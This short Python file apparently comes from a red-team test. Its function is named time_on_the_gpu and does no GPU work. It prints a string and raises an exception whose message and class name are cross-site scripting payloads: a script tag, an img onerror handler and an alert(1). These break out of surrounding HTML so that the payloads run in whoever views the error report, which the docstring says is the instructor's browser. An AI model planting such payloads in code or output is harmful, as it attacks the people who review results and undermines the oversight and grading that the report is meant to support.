"""An error whose text is a program for the instructor's browser, and its type too."""

TEXT = "</pre></td><script>document.title='RED TEAM'</script><img src=x onerror=\"document.title='RED TEAM'\">"


def time_on_the_gpu(work):
    print(TEXT)
    raise type("<script>alert(1)</script>", (Exception,), {})(TEXT)
